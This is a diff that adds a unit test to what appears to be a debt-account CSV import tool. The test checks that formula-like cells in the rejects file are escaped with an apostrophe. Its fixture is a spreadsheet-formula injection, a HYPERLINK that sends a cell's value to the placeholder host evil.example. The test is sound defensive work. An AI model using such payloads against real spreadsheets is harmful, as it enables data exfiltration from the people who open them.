@@ -563,3 +563,22 @@ def test_a_phone_zone_outside_the_rows_state_is_not_taken_for_where_the_debtor_l
     }
     phones = {p.address: p.timezone for p in contacts_of(engine, "Z-CA") if p.channel == "sms"}
     assert phones == {"+12125550101": "America/New_York"}
+
+
+def test_a_rejects_file_opens_in_a_spreadsheet_without_running_formulas(
+    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Pat")'
+    path = write_csv(tmp_path / "in.csv", [row("F-1", name=formula, balance="-abc")])
+    rejects = tmp_path / "rejects.csv"
+    run_import(engine, path, defaults, clock, rejects_path=rejects)
+    with rejects.open(encoding="utf-8") as handle:
+        [rejected] = list(csv.DictReader(handle))
+    # A leading apostrophe: spreadsheets show the cell as text instead of running it.
+    assert (rejected["name"], rejected["balance"]) == ("'" + formula, "'-abc")
+    assert not [cell for cell in rejected.values() if cell[:1] in ("=", "+", "-", "@")]
+    # Corrected and imported as it is, the name is what the first file said.
+    rejected["balance"] = "10.00"
+    fixed = write_csv(tmp_path / "fixed.csv", [rejected], header=[*HEADER, "row", "errors"])
+    assert run_import(engine, fixed, defaults, clock).created == 1
+    assert accounts_by_reference(engine)["F-1"].name == formula
